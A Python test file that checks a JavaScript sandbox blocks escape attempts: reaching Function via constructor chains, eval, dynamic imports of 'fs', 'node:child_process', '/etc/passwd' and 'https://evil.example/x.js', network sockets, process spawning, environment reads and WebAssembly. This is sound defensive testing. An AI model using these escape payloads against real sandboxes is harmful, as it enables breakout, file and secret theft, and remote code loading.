"""Attack: climb from any object to `Function`, the global object and from there to a host, as vm2 and UTCP allowed."""

import pytest

from sandbox_host import Limits

SOON = Limits(cpu_seconds=0.05)

FOUND = """
const forbidden = ['process', 'require', 'module', '__dirname', 'global', 'Buffer', 'std', 'os', 'bjson', 'scriptArgs', 'print',
    'load', 'loadScript', 'WebAssembly', 'SharedWorker', 'native', '__loadScript', 'gc', 'std', 'Java', 'Packages',
    'navigator', 'quit', 'exit', 'evalScript', '$262']
"""


async def test_no_host_object_is_in_reach(value):
    assert (
        await value(
            FOUND
            + "return forbidden.filter((name) => name in globalThis || typeof globalThis[name] !== 'undefined')"
        )
        == []
    )


@pytest.mark.parametrize(
    "root",
    ["({})", "[]", "(() => 1)", "(async () => 1)", "(function* () {})", "mcp", "mcp.a", "mcp.a.b", "mcp.a.b({}).constructor", "console",
     "console.log", "Deno", "Deno.readTextFile", "args", "setTimeout", "structuredClone", "URL", "new URL('http://a')", "McpError",
     "Error.prototype", "Math.random", "crypto", "performance", "new AbortController().signal", "(await mcp.a.b({}))",
     "(await mcp.a.b({})).args", "Deno.errors.NotFound", "queueMicrotask", "new TextEncoder()"],
)  # fmt: skip
async def test_every_constructor_is_the_guests_own(value, root):
    """`constructor.constructor` is `Function`; what it makes sees the same globals and nothing more."""
    told = await value(
        FOUND
        + f"""const told = []
        let at = {root}
        for (let i = 0; i < 4 && at != null; i++) {{
            at = at.constructor
            if (typeof at !== 'function' || at === mcp.constructor || String(at).includes('mcp')) continue
            try {{ told.push(...at('names', 'return names.filter((n) => typeof globalThis[n] !== "undefined")')(forbidden)) }} catch {{}}
        }}
        return told"""
    )
    assert told == []


@pytest.mark.parametrize("kind", ["Function", "(async () => {}).constructor", "(function* () {}).constructor",
                                  "(async function* () {}).constructor", "eval", "globalThis.eval", "Reflect.construct(Function, ['return this'])"])  # fmt: skip
async def test_code_made_at_run_time_is_confined_like_the_rest(value, kind):
    made = f"{kind}('return typeof process + typeof require + typeof WebAssembly')" if "eval" not in kind and "Reflect" not in kind else (
        f"(() => {kind}('typeof process + typeof require + typeof WebAssembly'))" if "eval" in kind else f"(() => typeof {kind}().process)")  # fmt: skip
    told = await value(
        f"""const f = {made}
        let r = f()
        if (typeof r?.next === 'function') r = r.next()
        r = await r
        return String(r?.value ?? r)"""
    )
    assert set(told.replace("undefined", "")) == set()


async def test_code_made_at_run_time_still_meets_the_limits(fails):
    assert (await fails("new Function('for (;;);')()", limits=SOON)).code == "cpu_limit"
    assert (await fails("(0, eval)('for (;;);')", limits=SOON)).code == "cpu_limit"


@pytest.mark.parametrize(
    "code",
    ["import fs from 'fs'; export default 1", "import 'std'; export default 1", "import * as os from 'os'; export default () => 1",
     "await import('fs')", "await import('node:child_process')", "await import('/etc/passwd')", "await import('file:///etc/passwd')",
     "await import('./plain.txt')", "await import('https://evil.example/x.js')", "await import('data:text/javascript,1')",
     "await import({ toString() { return 'os' } })", "await import('')", "await import('\\0')", "export * from 'os'",
     "export { x } from 'std'", "import x from './x.json' with { type: 'json' }; export default x", "await eval(\"import('os')\")",
     "await new Function(\"return import('os')\")()"],
)  # fmt: skip
async def test_no_module_can_be_imported(fails, world, code):
    error = await fails(code, mounts=[world.readable()])
    assert error.code in {"uncaught_error", "syntax_error"}
    assert (
        "cannot import" in error.message
        or error.code == "syntax_error"
        or "TypeError" in error.message
    ), error.message


@pytest.mark.parametrize("code", ["fetch('http://127.0.0.1:1')", "new WebSocket('ws://127.0.0.1:1')", "Deno.connect({ port: 1 })",
                                  "Deno.listen({ port: 0 })", "Deno.serve(() => {})", "new Deno.Command('id')", "Deno.run({ cmd: ['id'] })",
                                  "Deno.env.get('PATH')", "Deno.exit(1)", "new Worker('x')", "importScripts('x')",
                                  "new XMLHttpRequest()", "new EventSource('http://a')"])  # fmt: skip
async def test_no_network_no_process_no_environment(fails, code):
    error = await fails(f"await {code}; return 1")
    assert error.code == "uncaught_error"


async def test_memory_cannot_be_shared_and_nobody_waits_on_it(run):
    """`Atomics.wait` would block the thread below the reach of epochs."""
    outcome = await run(
        """if (typeof Atomics === 'undefined' || typeof SharedArrayBuffer === 'undefined') return 'absent'
        const told = []
        for (const f of [() => Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 60000),
                         () => Atomics.wait(new BigInt64Array(new SharedArrayBuffer(8)), 0, 0n),
                         () => Atomics.wait(new Int32Array(new ArrayBuffer(8)), 0, 0, 60000)])
            try { told.push(f()) } catch (e) { told.push(e.name) }
        return told"""
    )
    assert outcome.value == "absent" or all(
        told in ("TypeError", "ReferenceError") for told in outcome.value
    ), outcome


async def test_there_is_no_webassembly(value):
    assert await value("return typeof WebAssembly") == "undefined"
